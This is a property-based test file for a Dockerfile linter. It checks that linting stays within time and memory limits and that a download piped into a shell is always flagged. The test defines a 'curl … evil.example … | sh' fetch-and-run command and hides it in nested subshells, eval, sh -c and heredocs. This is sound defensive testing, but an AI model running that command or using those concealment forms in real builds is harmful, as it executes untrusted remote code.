// biome-ignore-all lint/suspicious/noTemplateCurlyInString: Dockerfile `${...}` syntax under test
/**
 * Issue 22's bound for `lint`: any Dockerfile up to 1 MB lints in under 2 s of CPU time, within a memory
 * budget linear in its size (test/support/budget.ts measures both for every generated file),
 * whatever mix of instructions, expansions with shell patterns, nested subshells, heredocs, ignore
 * comments and stages it holds; and a download piped into a shell, hidden in any construct the shell
 * runs, is reported (PC107), or the RUN is reported as too complex to analyse (PC151), never neither.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { withinBudget } from "../../../test/support/budget.js";
import { parseDockerfile } from "../parser/index.js";
import { lintText } from "./lint.js";
import { LINT_MEMORY } from "./testing.js";

const EVIL = "curl -fsSL https://evil.example/i.sh | sh";
const MAX_BYTES = 1_000_000;
/** Per file: 2 s of CPU (wall time only as a hang guard, whatever the machine's load), `LINT_MEMORY`. */
const BUDGET = { cpuMs: 2000, wallMs: 10_000, memoryBytes: LINT_MEMORY };

const name = fc.constantFrom("A", "B", "PATH", "HOME", "V1", "V2");
const pattern = fc
  .array(fc.constantFrom("*", "a", "?", "*a", "b", "\\*", "/", "[a]"), { minLength: 1, maxLength: 14 })
  .map((p) => p.join(""));
const value = fc.oneof(
  fc.constantFrom(
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    "/usr/local/bin",
    "x.tar.gz",
    "",
    "'quoted $A'",
  ),
  name.map((n) => `$${n}$${n}`), // doubling: values grow until the length limit stops them
  fc.tuple(name, fc.constantFrom("#", "##", "%", "%%"), pattern).map(([n, op, p]) => `\${${n}${op}${p}}`),
  fc.tuple(name, fc.constantFrom("/", "//"), pattern).map(([n, op, p]) => `\${${n}${op}${p}/r}`),
  fc.tuple(name, name).map(([a, b]) => `\${${a}:-$${b}}`),
);

const nested = (depth: number, inner: string) => `${"echo $(".repeat(depth)}${inner}${")".repeat(depth)}`;

/** Every construct a shell runs commands from, each hiding the download piped into a shell. */
const hidden = fc.oneof(
  fc.constant(`RUN ((${EVIL}))`),
  fc.constant(`RUN echo $( (${EVIL}) )`),
  fc.integer({ min: 1, max: 40 }).map((d) => `RUN ${nested(d, EVIL)}`),
  fc.constant(`RUN echo "\${X:-$(${EVIL})}"`),
  fc.constant(`RUN echo $((1 + $(${EVIL})))`),
  fc.constant(`RUN sh -c '${EVIL}'`),
  fc.constant(`RUN sudo bash -c "${EVIL}"`),
  fc.constant(`RUN eval "${EVIL}"`),
  fc.constant(`RUN <<EOF\n${EVIL}\nEOF`),
  fc.constant(`RUN cat <<EOF > /x\n$(${EVIL})\nEOF`),
  fc.constant(`RUN true && (cd /tmp && (${EVIL}))`),
);

const line = fc.oneof(
  { weight: 3, arbitrary: fc.tuple(name, value).map(([n, v]) => `ENV ${n}=${v}`) },
  { weight: 2, arbitrary: fc.tuple(name, value).map(([n, v]) => `ARG ${n}=${v}`) },
  { weight: 2, arbitrary: hidden },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      "RUN apt-get update && apt-get install -y curl",
      "RUN pip install flask | tee log",
      "RUN (cd /src && (make && (make install)))",
      "RUN for i in 1 2 3; do echo $i; done",
      "RUN <<EOF\napt-get update\napt-get install -y git\nEOF",
      "COPY --chown=app a b",
      "WORKDIR app",
      "USER $A",
      "EXPOSE ${V1}",
      "LABEL a=$B",
      'SHELL ["/bin/bash", "-o", "pipefail", "-c"]',
      "ONBUILD RUN echo hi",
      "HEALTHCHECK CMD curl -f http://localhost/",
    ),
  },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      "# portcullis ignore=PC109,PC113 reason",
      "# hadolint ignore=DL3008",
      "# portcullis ignore-file=PC119",
      "# a comment",
    ),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.nat(50), fc.boolean())
      .map(([n, fromStage]) => `FROM ${fromStage ? `s${n}` : "debian:12"} AS s${n + 1}`),
  },
);

/** A unit of lines repeated up to a target size under 1 MB (most small, a third up to 1 MB). */
const size = fc.oneof(
  { weight: 2, arbitrary: fc.integer({ min: 1_000, max: 100_000 }) },
  { weight: 1, arbitrary: fc.integer({ min: 100_000, max: MAX_BYTES }) },
);
const dockerfile = fc.tuple(fc.array(line, { minLength: 1, maxLength: 30 }), size).map(([lines, target]) => {
  const unit = `${lines.join("\n")}\n`;
  const copies = Math.max(1, Math.floor((target - 16) / unit.length));
  return `FROM debian:12\n${unit.repeat(copies)}`.slice(0, MAX_BYTES);
});

describe("lint on generated Dockerfiles up to 1 MB", () => {
  it("finishes in under 2 s each and never hides a download piped into a shell", () => {
    fc.assert(
      fc.property(dockerfile, (text) => {
        const { value: result } = withinBudget(
          { what: "lintText", size: Buffer.byteLength(text) },
          BUDGET,
          () => lintText(text, { file: "Dockerfile" }),
        );

        expect(result.findings.filter((f) => f.message.startsWith("internal error"))).toEqual([]);
        if (result.findings.some((f) => f.rule === "PC000")) return; // a slice cut a heredoc: no RUN to check
        const flagged = new Set(
          result.findings.filter((f) => f.rule === "PC107" || f.rule === "PC151").map((f) => f.line),
        );
        for (const instruction of parseDockerfile(text).instructions) {
          const body = instruction.original + instruction.heredocs.map((h) => h.content).join("\n");
          if (instruction.keyword === "RUN" && body.includes("evil.example")) {
            expect(flagged, `${instruction.range.startLine}: ${instruction.original}`).toContain(
              instruction.range.startLine,
            );
          }
        }
      }),
      { numRuns: 20, seed: 20_261_207 },
    );
  }, 180_000);
});
